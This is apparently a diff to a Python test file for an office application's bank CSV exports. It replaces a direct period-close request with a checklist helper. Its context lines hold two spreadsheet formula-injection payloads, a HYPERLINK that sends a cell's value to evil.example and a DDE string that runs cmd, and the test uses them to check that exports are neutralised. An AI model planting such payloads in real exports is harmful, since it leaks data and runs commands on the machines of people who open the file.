@@ -16,7 +16,7 @@ from office.demo.sample_events import EventFactory
 from office.exports import BankFormat, Payee, bank_csv, neutralise, slug, unique_entry_names
 from office.web.app import create_app
 from sync.central.tables import workers
-from tests.office_fixtures import JANUARY, PASSWORDS, csrf_of, seed_office
+from tests.office_fixtures import JANUARY, PASSWORDS, close_by_checklist, csrf_of, seed_office
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"click")'
 DDE = "=cmd|' /C calc'!A0"
@@ -62,7 +62,7 @@ def test_exports_of_a_period_hold_no_formula_and_no_path(office: TestClient) -> 
     office.post("/login", data=form)
     csrf = csrf_of(office.get("/periods").text)
     office.post("/periods", data={"start": "2026-01-01", "end": "2026-01-31", "csrf": csrf})
-    office.post("/periods/1/close", data={"csrf": csrf})
+    close_by_checklist(office, 1)
 
     bank = office.get("/periods/1/bank.csv?encoding=utf-8-sig").content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(bank)))
